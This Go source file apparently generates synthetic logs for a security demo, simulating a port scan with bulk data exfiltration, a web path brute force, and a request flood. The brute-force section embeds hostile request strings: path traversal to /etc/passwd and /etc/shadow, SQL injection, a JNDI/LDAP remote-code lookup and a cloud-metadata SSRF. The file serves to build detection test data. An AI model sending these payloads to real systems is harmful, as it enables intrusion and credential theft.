package demo

import (
	"fmt"
	"strings"
	"time"
)

// scanAndUpload: a worker's ports are tried, one is open, and the worker sends its data away.
func (s *script) scanAndUpload(n *network) {
	scanner, drop := s.company.pools["story-upload"].at(4), s.company.pools["story-upload"].at(11)
	victim := &n.jobs[1]
	d := s.begin(Story{ID: "scan-and-upload", Title: "Port scan, then a large upload", Account: n.account, Region: n.region,
		Actors: []string{victim.ip}, Addresses: []string{scanner, drop}})
	at := s.now.Add(-3*time.Hour - 15*time.Minute)
	const ports = 620
	for i := range ports {
		port := 1 + i*13%8191 // spreads over the low ports without repeating
		if i == 300 {
			port = 8443
		}
		end := at.Add(time.Duration(i) * 4 * time.Minute / ports)
		f := flow{host: victim, src: scanner, dst: victim.ip, sport: 40000 + d.IntN(20000), dport: port, proto: tcp,
			packets: 1, bytes: 44, reject: port != 8443, start: end.Add(-time.Second), end: end.Truncate(time.Second)}
		if !f.reject {
			f.packets, f.bytes = 14, 5312
		}
		s.flow(n, f)
	}
	for i := range 8 { // the way in
		end := s.now.Add(-3*time.Hour + time.Duration(i)*time.Minute)
		s.flow(n, flow{host: victim, src: scanner, dst: victim.ip, sport: 51000 + i, dport: 8443, proto: tcp,
			packets: 40 + int64(d.IntN(200)), bytes: 20000 + int64(d.IntN(90000)), start: end.Add(-50 * time.Second), end: end})
	}
	for i := range 40 { // the way out: about a gigabyte a minute
		end := s.now.Add(-2*time.Hour - 45*time.Minute + time.Duration(i+1)*time.Minute)
		packets := int64(640_000 + d.IntN(140_000))
		out := flow{host: victim, src: victim.ip, dst: drop, sport: 47112, dport: 443, proto: tcp,
			packets: packets, bytes: packets * 1440, start: end.Add(-59 * time.Second), end: end}
		back := flow{host: victim, src: drop, dst: victim.ip, sport: 443, dport: 47112, proto: tcp,
			packets: packets / 2, bytes: packets / 2 * 52, start: out.start, end: end}
		s.flow(n, out)
		s.flow(n, back)
	}
}

// pathBruteForce: a word list against the shop.
func (s *script) pathBruteForce(b *balancer) {
	client := s.company.pools["story-paths"].at(4)
	d := s.begin(Story{ID: "path-brute-force", Title: "Web path brute force", Account: b.account, Region: b.region,
		Actors: []string{client}, Addresses: []string{client}})
	begin := s.now.Add(-time.Hour - 40*time.Minute)
	add := func(at time.Time, method, path string, status int) {
		r := request{at: at, client: client, port: 20000 + d.IntN(40000), target: pick(d, b.targets), method: method, typ: "https",
			url: b.url("https", path), agent: "gobuster/3.6", status: status, tstatus: status, latency: d.lognormal(0.004, 0.4),
			received: 180, sent: 548}
		s.request(b, r)
	}
	words := strings.Fields("admin backup old test dev api private config db dump upload files internal staging panel manage root secret console status export import logs tmp cache")
	suffixes := strings.Fields(". .bak .old .zip .sql .tar.gz .php .json .yml .txt")
	n := 0
	for _, word := range words {
		for _, other := range words[:7] {
			for _, suffix := range suffixes {
				status := 404
				switch p := d.Float64(); {
				case p < 0.12:
					status = 403
				case p < 0.01+0.12:
					status = 301
				}
				path := "/" + word + "/" + other + strings.TrimSuffix(suffix, ".")
				if suffix == "." {
					path += "/"
				}
				add(begin.Add(time.Duration(n)*410*time.Millisecond), "GET", path, status)
				n++
			}
		}
	}
	for i, probe := range []string{
		"/static/..%2f..%2f..%2fetc/passwd", "/download?file=../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/shadow",
		"/search?q=1+union+select+password+from+users", "/search?q=${jndi:ldap://192.0.2.100/a}", "/proxy?url=http://169.254.169.254/latest/meta-data/",
	} {
		add(begin.Add(7*time.Minute+time.Duration(i)*3*time.Second), "GET", probe, 403)
	}
	for i := range 60 {
		add(begin.Add(8*time.Minute+time.Duration(i)*3*time.Second), "POST", "/admin/login", 401)
	}
}

// requestFlood: many clients ask the API's dearest question until it breaks.
func (s *script) requestFlood(b *balancer, n *network) {
	var bots []string
	for i := range 60 {
		bots = append(bots, s.company.pools[fmt.Sprint("bots-", 1+i%4)].at(uint64(2+i/4)))
	}
	d := s.begin(Story{ID: "request-flood", Title: "Request flood on a load balancer", Account: b.account, Region: b.region,
		Actors: []string{b.name}, Addresses: bots})
	const requests, length = 24000, 10 * time.Minute
	begin := s.now.Add(-42 * time.Minute)
	for i := range requests {
		at := begin.Add(length * time.Duration(i) / requests)
		r := request{at: at, client: pick(d, bots), port: 1024 + d.IntN(64000), target: pick(d, b.targets), method: "GET", typ: "h2",
			url: b.url("h2", "/v1/search?q="+d.text("abcdefghijklmnopqrstuvwxyz", 6)), agent: pick(d, []string{"Go-http-client/2.0", "okhttp/4.12.0", "python-requests/2.32.3"}),
			status: 200, tstatus: 200, latency: d.lognormal(0.9, 0.5), received: 210, sent: 4100}
		broken := min(0.8, float64(i)/3000) // it holds for the first minute and a half
		if d.chance(broken) {
			r.status, r.tstatus, r.sent = 503, 503, 190
			switch d.IntN(3) {
			case 0:
				r.status, r.tstatus, r.target, r.latency = 502, 0, "", -1
			case 1:
				r.status, r.tstatus, r.latency = 504, 0, -1
			}
		}
		s.request(b, r)
	}
	for minute := range 10 {
		for i, bot := range bots {
			lb := &n.balancers[i%len(n.balancers)]
			end := begin.Add(time.Duration(minute)*time.Minute + time.Duration(30+i%25)*time.Second)
			packets := int64(9000 + d.IntN(3000))
			s.flow(n, flow{host: lb, src: bot, dst: lb.ip, sport: 1024 + d.IntN(64000), dport: 443, proto: tcp,
				packets: packets, bytes: packets * 66, start: end.Add(-25 * time.Second), end: end})
		}
	}
}
